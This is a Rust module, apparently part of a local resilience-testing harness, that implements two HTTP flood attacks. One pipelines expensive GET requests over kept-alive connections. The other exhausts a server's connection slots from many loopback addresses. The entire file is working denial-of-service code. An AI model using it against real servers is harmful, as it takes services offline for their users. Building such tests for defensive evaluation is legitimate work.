//! Floods of HTTP by those who know how to ask: many requests on few connections, and many connections that each ask just often
//! enough to be kept.

use std::{
    collections::VecDeque,
    net::{IpAddr, Ipv4Addr},
};

use tokio::{
    io::AsyncReadExt,
    net::{TcpStream, tcp::OwnedWriteHalf},
    task::JoinSet,
};

use super::{pace::Pace, target::Target};

/// Connections that ask, at once.
const ASKING: usize = 256;
/// Connections that hold a place, at once: more than a server has.
const HOLDING: usize = 1_200;
/// Networks that hold places come from, 127.32.0.0/24 and following.
const HOLDING_NETWORKS: u64 = 64;

/// What costs a server most to answer.
const REQUESTS: [&str; 3] = [
    "GET /api/rooms HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /api/server HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity\r\n\r\n",
];

/// Requests one behind the other on connections that are kept, from the addresses of all attacks.
pub(crate) async fn gets(target: &Target, pace: Pace) -> anyhow::Result<u64> {
    flood(target, pace, ASKING, Target::address).await
}

/// As many connections as there are places, from many networks, each asking again before it would be closed.
pub(crate) async fn places(target: &Target, pace: Pace) -> anyhow::Result<u64> {
    flood(target, pace, HOLDING, far_address).await
}

/// Asks on `open_max` connections in turn, and opens another for each that was closed.
async fn flood(target: &Target, mut pace: Pace, open_max: usize, address: fn(u64) -> IpAddr) -> anyhow::Result<u64> {
    let mut open: VecDeque<OwnedWriteHalf> = VecDeque::new();
    let mut reading = JoinSet::new();
    while pace.next().await {
        while reading.try_join_next().is_some() {}
        let turn = pace.done();
        let asking = match open.pop_front() {
            Some(socket) if open.len() + 1 >= open_max => Some(socket),
            known => {
                open.extend(known);
                // Where the process may open no more files, it asks with what it has.
                match target.connect(address(turn)).await {
                    Ok(socket) => Some(split(socket, &mut reading)),
                    Err(_) => open.pop_front(),
                }
            }
        };
        let Some(socket) = asking else { continue };
        let request = REQUESTS[turn as usize % REQUESTS.len()].as_bytes();
        match socket.try_write(request) {
            Err(error) if error.kind() != std::io::ErrorKind::WouldBlock => {}
            // One that takes nothing now is asked again later.
            _ => open.push_back(socket),
        }
    }
    Ok(pace.done())
}

/// Reads and forgets what is answered.
fn split(socket: TcpStream, reading: &mut JoinSet<()>) -> OwnedWriteHalf {
    let (mut answers, requests) = socket.into_split();
    reading.spawn(async move {
        let mut bytes = vec![0; 64 * 1024];
        while answers.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
    });
    requests
}

fn far_address(turn: u64) -> IpAddr {
    let network = (turn % HOLDING_NETWORKS) as u8;
    let host = 1 + (turn / HOLDING_NETWORKS % 250) as u8;
    Ipv4Addr::new(127, 32, network, host).into()
}
